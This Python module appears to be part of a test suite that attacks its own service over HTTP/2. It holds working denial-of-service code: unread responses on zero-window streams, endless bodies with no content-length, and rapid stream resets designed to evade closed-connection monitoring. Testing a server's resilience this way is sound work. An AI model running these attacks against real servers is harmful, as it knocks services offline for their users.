"""Attacks over HTTP/2, which is off by default: answers that nobody reads, and bodies without a length."""

import asyncio
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from itertools import count

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import H2Error, StreamClosedError
from h2.settings import SettingCodes, Settings

from servers.http_connection import open_streams
from siege.attack import attack
from siege.attacker import Attacker

STREAMS = 32
"""As many as a connection may have at once."""
DATA_BYTES = 16_384
RESET_SECONDS = 0.05

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@attack("2 connections a second with 32 streams that ask for 500 kB and read nothing", uses_tls=True)
async def http2_unread_answers(attacker: Attacker) -> None:
    """Asks for the OpenAPI document on streams with a window of 0.

    Each of them kept a whole answer in memory, for as long as the attacker liked.
    """
    await attacker.begin()

    async def ask(connection: _Connection) -> None:
        windows = {SettingCodes.INITIAL_WINDOW_SIZE: 0}
        connection.state.local_settings = Settings(client=True, initial_values=windows)
        connection.state.initiate_connection()
        for _ in range(STREAMS):
            connection.begin_request("GET", "/v1/openapi.json", "", ends=True)
        await connection.wait_for_the_end()

    await attacker.at_rate(2, lambda _: _with_connection(attacker, ask))


@attack("4 connections a second with 4 streams, each with a record that never ends", uses_tls=True)
async def http2_bodies_without_a_length(attacker: Attacker) -> None:
    """Sends records without content-length and without an end. They were taken for empty ones, 15 MB each."""
    await attacker.begin()
    path = f"/v1/manage/venues/{attacker.task.venue_id}"

    async def send(connection: _Connection) -> None:
        connection.state.initiate_connection()
        streams = [connection.begin_request("PUT", path, attacker.task.key, ends=False) for _ in range(4)]
        await connection.send_data_until_the_end(streams)

    await attacker.at_rate(4, lambda _: _with_connection(attacker, send))


@attack(
    "1 connection with 10 streams a second, each of which is reset at once", uses_tls=True, watches_owner=True
)
async def http2_streams_that_are_reset(attacker: Attacker) -> None:
    """Asks for a stadium of 80,000 seats on each stream, another one each time, and resets it a moment later.

    The connection stays open, so that whoever looks for closed connections sees none; and streams that are
    reset do not count among those that a connection may have.
    """
    reader = await attacker.create_key(groups=["management_read_only"])
    paths = (f"/v1/manage/templates/stadium?seats={90_000 - number}" for number in count())
    await attacker.begin()

    async def ask(connection: _Connection) -> None:
        connection.state.initiate_connection()
        await connection.reset_streams_until_the_end(paths, reader.plaintext)

    while attacker.seconds_left:
        await _with_connection(attacker, ask)
        await asyncio.sleep(0.5)


async def _with_connection(attacker: Attacker, use: "Callable[[_Connection], Awaitable[None]]") -> None:
    """Uses a connection, and counts one that the server does not accept or ends."""
    try:
        streams = await open_streams(attacker.address, "h2")
    except OSError:
        attacker.count("not accepted")
        return
    try:
        await use(_Connection(attacker, streams))
    except (OSError, H2Error):
        attacker.count("closed")
    finally:
        streams[1].transport.abort()


class _Connection:
    """A connection of HTTP/2 that answers pings, and counts how it ended."""

    def __init__(self, attacker: Attacker, streams: Streams) -> None:
        self._attacker = attacker
        self._reader, self._writer = streams
        self.state = H2Connection(H2Configuration(header_encoding="utf-8", validate_inbound_headers=False))

    def begin_request(self, method: str, path: str, key: str, *, ends: bool) -> int:
        headers = [(":method", method), (":path", path), (":scheme", "https"), (":authority", "service")]
        if key:
            headers += [("authorization", f"Bearer {key}"), ("content-type", "application/json")]
        stream = self.state.get_next_available_stream_id()
        self.state.send_headers(stream, headers, end_stream=ends)
        return stream

    async def wait_for_the_end(self) -> None:
        """Answers what the server sends until the attack is over or the connection is closed."""
        while self._attacker.seconds_left and await self._exchange(self._attacker.seconds_left):
            pass
        self._attacker.count("left open" if not self._reader.at_eof() else "closed")

    async def send_data_until_the_end(self, streams: list[int]) -> None:
        """Sends blanks on all streams, as fast as the server takes them."""
        open_streams = set(streams)
        while self._attacker.seconds_left:
            for stream in list(open_streams):
                try:
                    room = min(DATA_BYTES, self.state.local_flow_control_window(stream))
                    if room > 0:
                        self.state.send_data(stream, b" " * room)
                except H2Error:  # The server has ended the stream.
                    self._attacker.count("stream ended")
                    open_streams.discard(stream)
            if not open_streams or not await self._exchange(0.1):
                break
        self._attacker.count("left open" if open_streams else "refused")

    async def reset_streams_until_the_end(self, paths: Iterator[str], key: str) -> None:
        """Asks for one path after the other, and resets each stream a moment after its request."""
        while self._attacker.seconds_left:
            stream = self.begin_request("GET", next(paths), key, ends=True)
            if not await self._exchange(RESET_SECONDS):
                break
            with suppress(StreamClosedError):
                self.state.reset_stream(stream, ErrorCodes.CANCEL)
                self._attacker.count("reset")
            if not await self._exchange(RESET_SECONDS):
                break

    async def _exchange(self, seconds: float) -> bool:
        """Sends what is to be sent, and takes what comes within this time. Returns whether it is open."""
        self._writer.write(self.state.data_to_send())
        try:
            async with asyncio.timeout(seconds):
                received = await self._reader.read(65_536)
        except TimeoutError:
            return True
        if received:
            self.state.receive_data(received)
        return bool(received)
